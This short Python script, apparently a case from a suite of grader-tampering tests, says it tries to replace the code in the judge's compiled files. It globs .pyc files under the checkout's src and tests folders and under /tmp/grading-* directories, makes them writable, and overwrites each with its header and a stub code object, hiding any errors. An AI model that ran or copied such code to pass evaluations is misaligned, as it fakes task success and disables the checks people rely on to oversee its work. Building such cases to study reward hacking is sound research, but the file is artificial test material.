# Tries: to replace the code in the judge's compiled files.
# Base: starter
import glob
import os

places = glob.glob("@CHECKOUT@/src/**/__pycache__/*.pyc", recursive=True)
places += glob.glob("@CHECKOUT@/tests/**/*.pyc", recursive=True)
places += glob.glob("/tmp/grading-*/**/*.pyc", recursive=True)[:500]
for name in places:
    try:
        head = open(name, "rb").read(16)
        os.chmod(name, 0o644)
        with open(name, "wb") as file:
            file.write(head + b"\xe3\x00\x00\x00")
    except OSError:
        pass
